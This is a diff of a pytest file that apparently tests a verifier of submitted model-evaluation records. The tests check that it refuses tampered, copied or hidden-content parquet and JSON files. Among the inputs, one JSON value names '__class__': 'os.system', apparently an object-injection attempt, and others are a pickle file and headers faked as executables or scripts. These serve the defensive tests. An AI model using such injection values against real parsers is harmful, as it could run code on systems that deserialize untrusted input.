-    folder = _again(record, records)
+def test_record_with_more_rows_than_an_earlier_one(record: Path, records: Path) -> None:
+    """A record that has more rows may repeat the earlier ones."""
+    folder = _resubmit(record, records)
     _fewer(record)
-    consistent(record)
+    make_consistent(record)
     resign(record, records)
-    verdict = judged(resign(folder, records), records)
+    verdict = verify_unchanged(resign(folder, records), records)
     assert verdict.accepted and "an earlier record" in verdict.remarks[0]
 
 
 @pytest.mark.parametrize(("share", "copy"), [(0.5, True), (0.1, False)])
-def test_a_copy_with_other_numbers_among_them(record: Path, records: Path, share: float, copy: bool) -> None:
-    """One changed number does not make it another model's, and a few alike by chance no copy."""
-    folder = _again(record, records)
+def test_partly_changed_copy(record: Path, records: Path, share: float, copy: bool) -> None:
+    """One changed number does not hide a copy, and a few equal numbers do not make one."""
+    folder = _resubmit(record, records)
     for file in (VAL, SPARSE, DENSE, CAPITALS):
 
         def change(lists: list[Any]) -> list[Any]:
@@ -618,40 +624,38 @@ def test_a_copy_with_other_numbers_among_them(record: Path, records: Path, share
 
         rewrite(folder / file, _replace("logprobs", change))
     edit(folder / "run.json", _both(_model(id="org/other"), _command("--model tiny", "--model org/other")))
-    consistent(folder)
+    make_consistent(folder)
     folder = resign(folder, records)
     assert verify_record(folder, records).accepted != copy
     assert not copy or "are those of 'local/tiny'" in reason(folder, records)
 
 
 @pytest.mark.parametrize("content", [b"{", b"[]", b'{"model": {}}', b'{"model": {"id": 1}, "data": {"tasks": {}}}'])
-def test_a_damaged_record_among_others(record: Path, records: Path, content: bytes) -> None:
-    """Refuses nobody else's, and is named."""
+def test_damaged_run_json_of_another_record(record: Path, records: Path, content: bytes) -> None:
+    """Other records are still accepted, with a remark on the damaged one."""
     damaged = records / "a--b" / ("0" * 12) / ("1" * 12)
     damaged.mkdir(parents=True)
     (damaged / "run.json").write_bytes(content)
-    verdict = judged(record, records)
-    assert verdict.accepted and verdict.remarks == (
-        f"the record '{damaged.name}' is damaged, and was compared with nothing",
-    )
+    verdict = verify_unchanged(record, records)
+    assert verdict.accepted and verdict.remarks == (f"the record '{damaged.name}' is damaged and was not compared",)
 
 
-def test_a_damaged_table_among_others(record: Path, records: Path) -> None:
-    folder = resign(_again(record, records, disclosure="None."), records)
+def test_damaged_table_of_another_record(record: Path, records: Path) -> None:
+    folder = resign(_resubmit(record, records, disclosure="None."), records)
     for path in (record / "observations").iterdir():
         path.write_bytes(b"PAR1")
-    verdict = judged(folder, records)
+    verdict = verify_unchanged(folder, records)
     assert verdict.accepted and "cannot be read" in verdict.remarks[0]
 
 
-def test_names_that_differ_in_size() -> None:
+def test_names_with_different_sizes_are_distinct() -> None:
     assert len({skeleton(f"facebook/opt-{size}b") for size in ("1.3", "13", "1-30", "130")}) == 4
     assert skeleton("tiiuae/Falcon-1.1B") != skeleton("tiiuae/Falcon-11B")
     assert skeleton("org/Model-1.1") == skeleton("0rg/m0del-1_1")
 
 
 def _replace(name: str, change: Callable[[list[Any]], list[Any]]) -> Callable[[pa.Table], pa.Table]:
-    return lambda table: replaced(table, name, change)
+    return lambda table: replace_column(table, name, change)
 
 
 def _first(value: Any) -> Callable[[list[Any]], list[Any]]:
@@ -659,17 +663,17 @@ def _first(value: Any) -> Callable[[list[Any]], list[Any]]:
 
 
 def _certain(table: pa.Table) -> pa.Table:
-    """The wrong symbol is nearly certain, and yet the right one is said."""
-    table = replaced(
+    """The wrong symbol is nearly certain, but argmax is the target."""
+    table = replace_column(
         table, "logprobs", lambda lists: [[-9.0, -0.001] if one % 2 else [-0.001, -9.0] for one in range(len(lists))]
     )
     target = table["gold"].to_pylist()
     token = dict(zip(target, table["gold_token"].to_pylist(), strict=True))
-    return replaced(table, "argmax", lambda values: [token[target[0]]] * len(values))
+    return replace_column(table, "argmax", lambda values: [token[target[0]]] * len(values))
 
 
 @pytest.mark.parametrize(
-    ("file", "change", "said"),
+    ("file", "change", "message"),
     [
         (VAL, _replace("id", _first(3)), "not those of its"),
         (VAL, _replace("id", lambda ids: [10**12 + one for one in ids]), "not those of its"),
@@ -679,53 +683,53 @@ def _certain(table: pa.Table) -> pa.Table:
         (VAL, _replace("gold", lambda target_values: [1 - target_values[0], *target_values[1:]]), "not those of its"),
         (VAL, _replace("gold_token", _first(9)), "not those of its"),
         (VAL, _replace("gold_token", lambda tokens: [7] * len(tokens)), "flipflop.val"),
-        (VAL, _replace("argmax", _first(-5)), "none"),
-        (VAL, _replace("argmax", _first(-1)), "none"),
+        (VAL, _replace("argmax", _first(-5)), "outside its range"),
+        (VAL, _replace("argmax", _first(-1)), "outside its range"),
         (VAL, lambda table: pa.concat_tables([table, table.slice(0, 1)]), "not those of its"),
         (VAL, lambda table: pa.concat_tables([table.slice(0, 1), table]), "not those of its"),
         (VAL, lambda table: table.slice(1), "not those of its"),
         (VAL, lambda table: table.slice(0, 0), "not those of its"),
-        (VAL, _replace("logprobs", _first([math.nan, math.nan])), "no numbers"),
-        (VAL, _replace("logprobs", _first([math.nan, -0.1])), "no numbers"),
+        (VAL, _replace("logprobs", _first([math.nan, math.nan])), "NaN log-probabilities"),
+        (VAL, _replace("logprobs", _first([math.nan, -0.1])), "NaN log-probabilities"),
         (VAL, _replace("logprobs", _first([-math.inf, -0.1])), "infinite"),
         (VAL, _replace("logprobs", _first([math.inf, -0.1])), "above 0"),
         (VAL, _replace("logprobs", _first([0.1, -3.0])), "above 0"),
-        (VAL, _replace("logprobs", _first([-0.1, -0.1])), "add up to"),
-        (VAL, _certain, "less probable than one of its symbols"),
+        (VAL, _replace("logprobs", _first([-0.1, -0.1])), "sum to"),
+        (VAL, _certain, "less probable than one of the symbols"),
         (VAL, lambda table: table.append_column("note", pa.array([MARKUP] * len(table))), "other columns"),
         (VAL, lambda table: table.drop_columns(["argmax"]), "other columns"),
         (VAL, lambda table: table.set_column(2, "gap", table["gap"].cast(pa.int64())), "other columns"),
         (CAPITALS, _replace("id", _first(1)), "not those of its"),
         (CAPITALS, _replace("gold", _first(9)), "not those of its"),
-        (CAPITALS, _replace("written", _first(10**6)), "none of its candidates"),
-        (CAPITALS, _replace("written", _first(-2)), "none of its candidates"),
+        (CAPITALS, _replace("written", _first(10**6)), "not one of its candidates"),
+        (CAPITALS, _replace("written", _first(-2)), "not one of its candidates"),
         (CAPITALS, _replace("logprobs", lambda lists: [lists[0][1:], *lists[1:]]), "not those of its"),
-        (CAPITALS, _replace("logprobs", lambda lists: [[-0.5] * len(lists[0]), *lists[1:]]), "add up to"),
-        (CAPITALS, _replace("logprobs", lambda lists: [[math.nan] * len(lists[0]), *lists[1:]]), "no numbers"),
+        (CAPITALS, _replace("logprobs", lambda lists: [[-0.5] * len(lists[0]), *lists[1:]]), "sum to"),
+        (CAPITALS, _replace("logprobs", lambda lists: [[math.nan] * len(lists[0]), *lists[1:]]), "NaN log-prob"),
         (LETTERS, _replace("id", _first(2)), "not those of its"),
         (LETTERS, _replace("turn", _first(1)), "not those of its"),
         (LETTERS, _replace("tokens", _first(10**6)), "limit"),
         (LETTERS, _replace("tokens", _first(-1)), "tokens"),
-        (LETTERS, _replace("tokens", _first(0)), "no token at all"),
+        (LETTERS, _replace("tokens", _first(0)), "and 0 tokens"),
         (LETTERS, _replace("output", _first("9" * 10**6)), "characters"),
         (LETTERS, lambda table: pa.concat_tables([table, table]), "not those of its"),
         (STRAWBERRY, _replace("turn", lambda turns: [1 - turn for turn in turns]), "not those of its"),
         (STRAWBERRY, lambda table: table.take(pa.array(np.arange(len(table))[::-1])), "not those of its"),
     ],
 )  # fmt: skip
-def test_observations_that_no_model_gives(
-    record: Path, records: Path, file: str, change: Callable[[pa.Table], pa.Table], said: str
+def test_impossible_observations_are_refused(
+    record: Path, records: Path, file: str, change: Callable[[pa.Table], pa.Table], message: str
 ) -> None:
     rewrite(record / file, change)
-    assert said in reason(resign(record, records), records)
+    assert message in reason(resign(record, records), records)
 
 
 def _continued(record: Path) -> None:
-    """The reads of a record, as if each continuation had been scored by itself; none is written."""
+    """Makes the reads of a record continuations, none of which is written."""
 
     def change(table: pa.Table) -> pa.Table:
-        table = replaced(table, "gold_token", lambda _: table["gold"].to_pylist())
-        return replaced(table, "argmax", lambda values: [-1] * len(values))
+        table = replace_column(table, "gold_token", lambda _: table["gold"].to_pylist())
+        return replace_column(table, "argmax", lambda values: [-1] * len(values))
 
     for file in (VAL, SPARSE, DENSE):
         rewrite(record / file, change)
@@ -734,7 +738,7 @@ def _continued(record: Path) -> None:
 
 
 def _sure(written: int) -> Callable[[pa.Table], pa.Table]:
-    """The first read is nearly certain of the first symbol, and writes another."""
+    """Makes the first read nearly certain of the first symbol, with another one written."""
 
     def change(table: pa.Table) -> pa.Table:
         return _replace("argmax", _first(written))(_replace("logprobs", _first([-0.01, -9.0]))(table))
@@ -743,70 +747,80 @@ def _sure(written: int) -> Callable[[pa.Table], pa.Table]:
 
 
 @pytest.mark.parametrize(
-    ("change", "said"),
+    ("change", "message"),
     [
         (lambda table: table, ""),
         (_sure(0), ""),
-        (_sure(-1), "is not what is written"),
-        (_sure(1), "is not what is written"),
-        (_replace("argmax", _first(2)), "where continuations were scored"),
-        (_replace("argmax", _first(-2)), "none"),
-        (_replace("gold_token", lambda values: [one + 1 for one in values]), "where continuations were scored"),
+        (_sure(-1), "is not the written one"),
+        (_sure(1), "is not the written one"),
+        (_replace("argmax", _first(2)), "scored as continuations"),
+        (_replace("argmax", _first(-2)), "outside its range"),
+        (_replace("gold_token", lambda values: [one + 1 for one in values]), "scored as continuations"),
         (_replace("logprobs", _first([-2e4, -1.0])), "below -10,000"),
-        (_replace("logprobs", _first([-0.1, -0.1])), "add up to"),
+        (_replace("logprobs", _first([-0.1, -0.1])), "sum to"),
     ],
 )
-def test_continuations_that_no_model_has(
-    record: Path, records: Path, change: Callable[[pa.Table], pa.Table], said: str
+def test_impossible_continuations_are_refused(
+    record: Path, records: Path, change: Callable[[pa.Table], pa.Table], message: str
 ) -> None:
     _continued(record)
     rewrite(record / VAL, change)
-    consistent(record)
-    assert said in reason(resign(record, records), records) if said else verify_record(resign(record, records)).accepted
+    make_consistent(record)
+    assert (
+        message in reason(resign(record, records), records)
+        if message
+        else verify_record(resign(record, records)).accepted
+    )
 
 
 @pytest.mark.parametrize(
-    ("written", "line", "said"),
+    ("written", "line", "message"),
     [
         (0, [-0.01, -9.0], ""),
-        (-1, [-0.01, -9.0], "is not what is written"),
-        (1, [-0.01, -9.0], "is not what is written"),
+        (-1, [-0.01, -9.0], "is not the written one"),
+        (1, [-0.01, -9.0], "is not the written one"),
         (0, [-1.0, -2e4], "below -10,000"),
     ],
 )
-def test_choices_that_no_model_makes(record: Path, records: Path, written: int, line: list[float], said: str) -> None:
-    """Of two candidates those log-probabilities, of the others none to speak of."""
+def test_impossible_choices_are_refused(
+    record: Path, records: Path, written: int, line: list[float], message: str
+) -> None:
+    """Two candidates have these log-probabilities, the others very low ones."""
     rewrite(record / CAPITALS, _replace("written", _first(written)))
     rewrite(record / CAPITALS, _replace("logprobs", lambda lists: [line + [-99.0] * (len(lists[0]) - 2), *lists[1:]]))
-    consistent(record)
-    assert said in reason(resign(record, records), records) if said else verify_record(resign(record, records)).accepted
+    make_consistent(record)
+    assert (
+        message in reason(resign(record, records), records)
+        if message
+        else verify_record(resign(record, records)).accepted
+    )
 
 
-def test_log_probabilities_below_all_logits(record: Path, records: Path) -> None:
+def test_too_low_logprobs_are_refused(record: Path, records: Path) -> None:
     rewrite(record / VAL, _replace("logprobs", _first([-2e5, -5.0])))
     assert "below -100,000" in reason(resign(record, records), records)
 
 
-def test_ties_that_all_come_out_right(record: Path, records: Path) -> None:
-    """Both symbols equally probable, and the right one said every time, whichever it is."""
+def test_ties_always_broken_for_the_target_are_refused(record: Path, records: Path) -> None:
+    """Both symbols are equally probable, and argmax is always the target."""
 
     def tied(table: pa.Table) -> pa.Table:
-        table = replaced(table, "logprobs", lambda lists: [[-0.7, -0.7]] * len(lists))
-        return replaced(table, "argmax", lambda _: table["gold_token"].to_pylist())
+        table = replace_column(table, "logprobs", lambda lists: [[-0.7, -0.7]] * len(lists))
+        return replace_column(table, "argmax", lambda _: table["gold_token"].to_pylist())
 
     for split in (VAL, SPARSE, VAL.replace("val", "val_dense")):
         rewrite(record / split, tied)
-    consistent(record)
+    make_consistent(record)
     assert "equally probable" in reason(resign(record, records), records)
 
 
-def test_what_was_accepted_stays_accepted(record: Path, records: Path) -> None:
-    """A later record that has all of it, or a copy of it, is to be noted, and keeps nobody from replaying it."""
+def test_accepted_record_stays_accepted(record: Path, records: Path) -> None:
+    """A later copy of an accepted record is a remark, not a refusal."""
     other = records / "draft"
     shutil.copytree(record, other)
     edit(other / "submission.json", lambda facts: facts | {"disclosure": "Sent again."})
     folder = resign(other, records)
-    assert "says what" in reason(folder, records)
+    assert "has the same outputs as" in reason(folder, records)
     verdict = verify_record(record, records, new=False)
     assert verdict.accepted and any(folder.name in remark for remark in verdict.remarks)
 
@@ -816,10 +830,10 @@ def test_nulls_are_refused(record: Path, records: Path) -> None:
     place = table.schema.get_field_index("output")
     holes = pa.array([None, *table["output"].to_pylist()[1:]], pa.string())
     pq.write_table(table.set_column(place, "output", holes), record / LETTERS)
-    assert "gaps" in reason(resign(record, records), records)
+    assert "nulls" in reason(resign(record, records), records)
 
 
-def test_text_that_is_no_utf8(record: Path, records: Path) -> None:
+def test_invalid_utf8_output_is_refused(record: Path, records: Path) -> None:
     table = pq.read_table(record / LETTERS)
     broken = pa.array([b"\xff\xfe"] * len(table), pa.binary())
     broken = pa.Array.from_buffers(pa.string(), len(table), broken.buffers())
@@ -828,37 +842,39 @@ def test_text_that_is_no_utf8(record: Path, records: Path) -> None:
     assert "cannot be read" in reason(resign(record, records), records)
 
 
-def test_splits_swapped(record: Path, records: Path) -> None:
+def test_swapped_splits_are_refused(record: Path, records: Path) -> None:
     (record / VAL).rename(record / "other")
     (record / SPARSE).rename(record / VAL)
     (record / "other").rename(record / SPARSE)
     assert "not those of its" in reason(resign(record, records), records)
 
 
-def test_a_better_answer_that_is_not_in_the_scores(record: Path, records: Path) -> None:
+def test_improved_answer_with_old_scores_is_refused(record: Path, records: Path) -> None:
     rewrite(record / LETTERS, _replace("output", lambda texts: ["3", *texts[1:]]))
     rewrite(record / LETTERS, _replace("tokens", _first(2)))
-    assert "result.json: accuracy of letters.test is 0.0 there" in reason(resign(record, records), records)
+    assert "result.json: accuracy of letters.test is 0.0, and" in reason(resign(record, records), records)
 
 
 @pytest.mark.parametrize(
-    ("change", "said"),
+    ("change", "message"),
     [
         (lambda result: result["scores"][0].update(value=0.999), "the observations give"),
         (lambda result: result["scores"][0].update(n=10**6), "the observations give"),
         (lambda result: result["scores"][0].update(value="1.0"), "the observations give"),
-        (lambda result: result["scores"].pop(), "more or fewer scores"),
-        (lambda result: result["scores"].append(result["scores"][0]), "more or fewer scores"),
-        (lambda result: result.update(scores={}), "more or fewer scores"),
-        (lambda result: result.update(note=MARKUP), "other fields"),
+        (lambda result: result["scores"].pop(), "number of scores differs"),
+        (lambda result: result["scores"].append(result["scores"][0]), "number of scores differs"),
+        (lambda result: result.update(scores={}), "number of scores differs"),
+        (lambda result: result.update(note=MARKUP), "unknown fields"),
         (lambda result: result["model"].update(id="someone/better"), "result.json, model"),
         (lambda result: result["environment"].update(device="H200"), "result.json, environment"),
-        (lambda result: [result], "no JSON object"),
+        (lambda result: [result], "not a JSON object"),
     ],
 )
-def test_scores_that_do_not_follow(record: Path, records: Path, change: Callable[[Json], Any], said: str) -> None:
+def test_changed_result_json_is_refused(
+    record: Path, records: Path, change: Callable[[Json], Any], message: str
+) -> None:
     edit(record / "result.json", lambda result: changed if isinstance(changed := change(result), list) else None)
-    assert said in reason(resign(record, records), records)
+    assert message in reason(resign(record, records), records)
 
 
 @pytest.mark.parametrize("file", ["run.json", "submission.json", "result.json"])
@@ -870,26 +886,26 @@ def test_scores_that_do_not_follow(record: Path, records: Path, change: Callable
         b'{"model": {"__class__": "os.system"}}', b'{"schema": "fflm-run/1"}', b"x" * (9 * 2**20),
     ],
 )  # fmt: skip
-def test_files_that_are_no_json_of_ours(record: Path, records: Path, file: str, content: bytes) -> None:
+def test_invalid_json_is_refused(record: Path, records: Path, file: str, content: bytes) -> None:
     (record / file).write_bytes(content)
-    assert "its contents say" not in reason(signed(record, records), records)
+    assert "its contents give" not in reason(resign_if_possible(record, records), records)
 
 
 @pytest.mark.parametrize("file", ["run.json", "submission.json", "result.json", VAL, CAPITALS, LETTERS])
 @pytest.mark.parametrize("part", [0.0, 0.3, 0.9, 0.99])
-def test_truncated_files(record: Path, records: Path, file: str, part: float) -> None:
+def test_truncated_files_are_refused(record: Path, records: Path, file: str, part: float) -> None:
     content = (record / file).read_bytes()
     (record / file).write_bytes(content[: int(len(content) * part)])
-    assert "its contents say" not in reason(signed(record, records), records)
+    assert "its contents give" not in reason(resign_if_possible(record, records), records)
 
 
 @pytest.mark.parametrize("file", [VAL, CAPITALS, LETTERS])
-def test_tables_that_are_something_else(record: Path, records: Path, file: str) -> None:
+def test_files_that_are_not_parquet_are_refused(record: Path, records: Path, file: str) -> None:
     content = (record / file).read_bytes()
     for other in (b"PAR1", b"PAR1PAR1", b"PK\x03\x04" + content, content[::-1], content[: len(content) // 2] * 2):
         (record / file).write_bytes(other)
-        record = signed(record, records)
-        assert "its contents say" not in reason(record, records)
+        record = resign_if_possible(record, records)
+        assert "its contents give" not in reason(record, records)
 
 
 def _link(record: Path) -> None:
@@ -917,57 +933,59 @@ def _deep(record: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    ("change", "said"),
+    ("change", "message"),
     [
         (_link, "is a link"),
         (_linked_folder, "is a link"),
-        (_link_in_place, "no such folder"),
-        (lambda record: os.mkfifo(record / "pipe"), "no plain file"),
-        (lambda record: (record / "note.txt").write_text("hello"), "also has 'note.txt'"),
-        (lambda record: (record / ".hidden").write_text("hello"), "also has '.hidden'"),
-        (lambda record: (record / "weights.pkl").write_bytes(b"\x80\x04."), "also has 'weights.pkl'"),
-        (lambda record: (record / "observations" / "letters.train.parquet").write_bytes(b"PAR1"), "also has"),
+        (_link_in_place, "the folder does not exist"),
+        (lambda record: os.mkfifo(record / "pipe"), "not a regular file"),
+        (lambda record: (record / "note.txt").write_text("hello"), "has unknown files: 'note.txt'"),
+        (lambda record: (record / ".hidden").write_text("hello"), "has unknown files: '.hidden'"),
+        (lambda record: (record / "weights.pkl").write_bytes(b"\x80\x04."), "has unknown files: 'weights.pkl'"),
+        (lambda record: (record / "observations" / "letters.train.parquet").write_bytes(b"PAR1"), "has unknown files"),
         (lambda record: (record / LETTERS).unlink(), "lacks 'observations/letters.test.parquet'"),
         (lambda record: (record / "result.json").unlink(), "lacks 'result.json'"),
         (lambda record: (record / "submission.json").unlink(), "submission.json is missing"),
         (lambda record: (record / "run.json").unlink(), "run.json is missing"),
         (_many, "more than 64 files"),
         (_deep, "too deep"),
-        (lambda record: (record / "empty").mkdir(), "'empty' is an empty folder"),
+        (lambda record: (record / "empty").mkdir(), "the folder 'empty' is empty"),
         (lambda record: [(record / str(number)).mkdir() for number in range(70)], "more than 64 files"),
-        (lambda record: (record / f"{MARKUP[:8]}.json").write_text("{}"), "also has"),
+        (lambda record: (record / f"{MARKUP[:8]}.json").write_text("{}"), "has unknown files"),
     ],
 )  # fmt: skip
-def test_other_files(record: Path, records: Path, change: Callable[[Path], Any], said: str) -> None:
+def test_unexpected_files_are_refused(record: Path, records: Path, change: Callable[[Path], Any], message: str) -> None:
     change(record)
     verdict = verify_record(record, records)
-    assert said in verdict.reasons[0]
+    assert message in verdict.reasons[0]
 
 
 @pytest.mark.parametrize("name", ["0" * 12, "../x", MARKUP.replace("/", "")])
-def test_a_folder_of_another_name(record: Path, records: Path, name: str) -> None:
+def test_renamed_folder_is_refused(record: Path, records: Path, name: str) -> None:
     other = record.parent / Path(name).name
     record.rename(other)
-    assert "its contents say" in reason(other, records)
+    assert "its contents give" in reason(other, records)
 
 
-def test_large_files_are_not_read(record: Path, records: Path) -> None:
+def test_too_large_files_are_refused(record: Path, records: Path) -> None:
     with (record / VAL).open("r+b") as file:
         file.truncate(2**40)  # of which nothing is on the disk
-    assert "at most" in verify_record(record, records).reasons[0]
+    assert "the limit is" in verify_record(record, records).reasons[0]
 
 
 @pytest.mark.parametrize("file", ["run.json", "submission.json", "result.json"])
 @pytest.mark.parametrize(
     "change", [lambda text: text + " " * 100, lambda text: text.replace("\n", "\r\n"), lambda text: " " + text]
 )
-def test_json_that_is_padded(record: Path, records: Path, file: str, change: Callable[[str], str]) -> None:
+def test_json_with_other_formatting_is_refused(
+    record: Path, records: Path, file: str, change: Callable[[str], str]
+) -> None:
     (record / file).write_bytes(change((record / file).read_text(encoding="utf-8")).encode())
-    assert "is not written as" in reason(resign(record, records), records)
+    assert "is not formatted as" in reason(resign(record, records), records)
 
 
 def _with_hole(table: pa.Table, path: Path) -> None:
-    """Bytes between the columns and the footer, which no reader looks at."""
+    """Inserts bytes between the columns and the footer, which readers ignore."""
     _plainly(table, path)
     content = path.read_bytes()
     footer = 8 + int.from_bytes(content[-8:-4], "little")
@@ -979,7 +997,7 @@ def _field_note(table: pa.Table) -> pa.Table:
 
 
 def _usual(table: pa.Table) -> dict[str, Any]:
-    """The encodings that tables are written in."""
+    """Returns the encodings of our writer."""
     usual: dict[str, Any] = {"compression": "zstd", "compression_level": 9, "write_statistics": False}
     if "logprobs" in table.schema.names:
         counters = {name: "DELTA_BINARY_PACKED" for name in ("id", "position", "gap") if name in table.schema.names}
@@ -990,31 +1008,31 @@ def _usual(table: pa.Table) -> dict[str, Any]:
 
 
 def _plainly(table: pa.Table, path: Path, **other: Any) -> None:
-    """A table in those encodings, but for `other` options of the writer."""
+    """Writes a table in those encodings, except for `other` options of the writer."""
     pq.write_table(table, path, **(_usual(table) | other))
 
 
 def _with_note(table: pa.Table, path: Path, note: bytes) -> None:
-    """A table with another schema of Arrow in its footer than that of its columns."""
+    """Writes a table whose Arrow schema in the footer differs from its columns."""
     with pq.ParquetWriter(path, table.schema, **_usual(table), store_schema=False) as writer:
         writer.write_table(table)
         writer.add_key_value_metadata({"ARROW:schema": note})
 
 
 def _hidden_schema(table: pa.Table, path: Path) -> None:
-    """A text behind the schema that Arrow keeps in the footer, of which a reader takes the types alone."""
+    """Appends a text to the Arrow schema in the footer, of which readers use the types only."""
     note = base64.b64decode(pq.read_metadata(path).metadata[b"ARROW:schema"])
     _with_note(table, path, base64.b64encode(note + b"hidden text"))
 
 
 def _noted_schema(table: pa.Table, path: Path) -> None:
-    """A text in that schema."""
+    """Adds metadata to the Arrow schema."""
     note = table.schema.with_metadata({"note": "hidden"}).serialize().to_pybytes()
     _with_note(table, path, base64.b64encode(note))
 
 
 def _unused_entries(table: pa.Table, path: Path) -> None:
-    """A dictionary with entries that no row refers to."""
+    """Writes a dictionary with entries that no row uses."""
     note = pq.read_metadata(path).metadata[b"ARROW:schema"]
     place = table.schema.get_field_index("output")
     own = table["output"].combine_chunks().dictionary_encode()
@@ -1023,7 +1041,7 @@ def _unused_entries(table: pa.Table, path: Path) -> None:
 
 
 def _magic(sign: bytes) -> Callable[[pa.Table, Path], None]:
-    """Another beginning, which readers pass over."""
+    """Changes the first bytes, which readers ignore."""
 
     def write(table: pa.Table, path: Path) -> None:
         _plainly(table, path)
@@ -1037,41 +1055,41 @@ def _with_option(**other: Any) -> Callable[[pa.Table, Path], None]:
 
 
 @pytest.mark.parametrize(
-    ("write", "said"),
+    ("write", "message"),
     [
         (_plainly, ""),
-        (lambda table, path: _plainly(_field_note(table), path), "notes on them"),
-        (lambda table, path: _plainly(table.replace_schema_metadata({"note": "hidden"}), path), "notes"),
-        (_with_option(store_schema=False), "notes"),
-        (_with_option(write_page_index=True), "in no column"),
-        (_with_hole, "in no column"),
-        (_hidden_schema, "its schema has notes"),
-        (_noted_schema, "notes on them"),
-        (_magic(b"MZ\x90\x00"), "does not begin as a parquet file"),
-        (_magic(b"#!/b"), "does not begin as a parquet file"),
-        (_with_option(compression="gzip", compression_level=None), "are enough"),
-        (_with_option(compression="none", compression_level=None), "are enough"),
-        (_with_option(row_group_size=3), "groups of other sizes"),
-        (_with_option(write_statistics=True), "are enough"),
+        (lambda table, path: _plainly(_field_note(table), path), "metadata on them"),
+        (lambda table, path: _plainly(table.replace_schema_metadata({"note": "hidden"}), path), "metadata"),
+        (_with_option(store_schema=False), "metadata"),
+        (_with_option(write_page_index=True), "outside its columns"),
+        (_with_hole, "outside its columns"),
+        (_hidden_schema, "its schema has extra metadata"),
+        (_noted_schema, "metadata on them"),
+        (_magic(b"MZ\x90\x00"), "is not a parquet file"),
+        (_magic(b"#!/b"), "is not a parquet file"),
+        (_with_option(compression="gzip", compression_level=None), ", expected "),
+        (_with_option(compression="none", compression_level=None), ", expected "),
+        (_with_option(row_group_size=3), "row groups"),
+        (_with_option(write_statistics=True), ", expected "),
     ],
 )
 @pytest.mark.parametrize("file", [DENSE, LETTERS])
-def test_tables_that_carry_more(
-    record: Path, records: Path, file: str, write: Callable[[pa.Table, Path], Any], said: str
+def test_tables_with_hidden_content_are_refused(
+    record: Path, records: Path, file: str, write: Callable[[pa.Table, Path], Any], message: str
 ) -> None:
     write(pq.read_table(record / file), record / file)
     verdict = verify_record(resign(record, records), records)
-    assert said in "".join(verdict.reasons) and bool(verdict.reasons) == bool(said)
+    assert message in "".join(verdict.reasons) and bool(verdict.reasons) == bool(message)
 
 
-def test_a_dictionary_of_what_no_row_says(record: Path, records: Path) -> None:
+def test_unused_dictionary_values_are_refused(record: Path, records: Path) -> None:
     _unused_entries(pq.read_table(record / LETTERS), record / LETTERS)
     assert pq.read_table(record / LETTERS).schema.equals(observations.COMPLETIONS)
-    assert "its column 'output' takes" in reason(resign(record, records), records)
+    assert "its column 'output' has" in reason(resign(record, records), records)
 
 
 def _of_another_version(monkeypatch: pytest.MonkeyPatch, **changed: Any) -> None:
-    """From now on tables are written here by another version than those that are judged: in another compression."""
+    """Writes tables with another compression level from now on, like another version."""
     usual = pq.ParquetWriter
 
     def write(*arguments: Any, **options: Any) -> Any:
@@ -1080,16 +1098,20 @@ def _of_another_version(monkeypatch: pytest.MonkeyPatch, **changed: Any) -> None
     monkeypatch.setattr(tables.pq, "ParquetWriter", write)
 
 
-def test_tables_that_another_zstd_compressed(record: Path, records: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """The same pages in a few bytes more or less; what is hidden takes more."""
+def test_tables_by_another_zstd_version_are_accepted(
+    record: Path, records: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Pages differ by a few bytes; hidden content needs more."""
     _of_another_version(monkeypatch, compression_level=12)
-    assert judged(record, records).reasons == ()
+    assert verify_unchanged(record, records).reasons == ()
     _unused_entries(pq.read_table(record / LETTERS), record / LETTERS)
-    assert "are enough" in reason(resign(record, records), records)
+    assert ", expected " in reason(resign(record, records), records)
 
 
-def test_tables_that_another_pyarrow_wrote(record: Path, records: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Its name in the footer, pages of other sizes: what earlier versions do differently."""
+def test_tables_by_another_pyarrow_version_are_accepted(
+    record: Path, records: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Earlier versions write another name in the footer and pages of other sizes."""
 
     def rename(path: Path) -> None:
         content = path.read_bytes()
@@ -1100,21 +1122,21 @@ def test_tables_that_another_pyarrow_wrote(record: Path, records: Path, monkeypa
         _plainly(pq.read_table(path), path, data_page_version="1.0", compression_level=8)
         rename(path)
     record = resign(record, records)
-    assert judged(record, records).reasons == ()
+    assert verify_unchanged(record, records).reasons == ()
     whole = (record / VAL).read_bytes()
     _hidden_schema(pq.read_table(record / VAL), record / VAL)
     rename(record / VAL)
     record = resign(record, records)
-    assert "its schema has notes" in reason(record, records)
+    assert "its schema has extra metadata" in reason(record, records)
     (record / VAL).write_bytes(whole)
     _unused_entries(pq.read_table(record / LETTERS), record / LETTERS)
     rename(record / LETTERS)
-    assert "are enough" in reason(resign(record, records), records)
+    assert ", expected " in reason(resign(record, records), records)
 
 
 @pytest.mark.parametrize("rows", [1, 5_000])
-def test_a_table_is_written_in_the_pieces_of_a_run(tmp_path: Path, rows: int) -> None:
-    """By windows of rows of data, whatever pieces it is read in."""
+def test_row_groups_of_a_submitted_table(tmp_path: Path, rows: int) -> None:
+    """Row groups are windows of data rows, whatever the groups of the run."""
     schema = observations.COMPLETIONS
     columns = [range(rows), [0] * rows, [str(row) for row in range(rows)], [1] * rows]
     table = pa.Table.from_arrays(
@@ -1130,57 +1152,57 @@ def test_a_table_is_written_in_the_pieces_of_a_run(tmp_path: Path, rows: int) ->
 @pytest.mark.parametrize(
     ("file", "value"), [(VAL, [-1.00001, -2.0]), (CAPITALS, -7.000001), (DENSE, [-1.0, -2.0 - 2.0**-17])]
 )
-def test_numbers_that_are_not_rounded(record: Path, records: Path, file: str, value: Any) -> None:
-    """The last bits of numbers are room for anything."""
+def test_unrounded_logprobs_are_refused(record: Path, records: Path, file: str, value: Any) -> None:
+    """The last bits of numbers could carry hidden content."""
     table = pq.read_table(record / file)
     first = value if isinstance(value, list) else [value, *table["logprobs"][0].as_py()[1:]]
-    _plainly(replaced(table, "logprobs", _first(first)), record / file)
-    assert "not rounded to multiples" in reason(resign(record, records), records)
+    _plainly(replace_column(table, "logprobs", _first(first)), record / file)
+    assert "not multiples" in reason(resign(record, records), records)
 
 
 def _renumbered(table: pa.Table) -> pa.Table:
-    """The tokens of the symbols under other ids, everywhere."""
+    """Changes the token ids of the symbols consistently."""
     others = {token: 10**6 + token for token in table["gold_token"].to_pylist()}
     for name in ("gold_token", "argmax"):
-        table = replaced(table, name, lambda ids: [others.get(one, one) for one in ids])
